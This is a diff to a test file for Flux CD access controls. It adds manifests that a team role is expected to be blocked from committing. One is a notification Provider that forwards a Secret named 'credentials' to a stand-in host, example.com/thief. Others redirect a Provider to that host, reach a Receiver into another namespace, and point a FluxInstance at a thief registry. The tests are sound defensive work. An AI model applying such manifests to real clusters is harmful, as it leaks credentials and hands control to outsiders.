@@ -75,6 +75,24 @@ export const fluxObjectAttacks = stoppedBy(teamRoles, [
     }),
   ),
   commits(
+    'a Provider that sends a Secret elsewhere',
+    manifest('notification.toolkit.fluxcd.io/v1beta3 Provider', 'shop/thief', {
+      spec: { type: 'generic', address: 'https://example.com/thief', secretRef: { name: 'credentials' } },
+    }),
+  ),
+  commits(
+    'another address in its own Provider',
+    manifest('notification.toolkit.fluxcd.io/v1beta3 Provider', 'shop/notifications', {
+      spec: { type: 'generic', address: 'https://example.com/thief' },
+    }),
+  ),
+  commits(
+    'other resources in its own Receiver',
+    manifest('notification.toolkit.fluxcd.io/v1 Receiver', 'shop/push', {
+      spec: { resources: [{ ...SOURCE, name: 'media', namespace: 'media' }] },
+    }),
+  ),
+  commits(
     'a FluxInstance of its own',
     manifest('fluxcd.controlplane.io/v1 FluxInstance', 'shop/flux', {
       spec: { distribution: { registry: 'example.com/thief', version: '2.x' } },
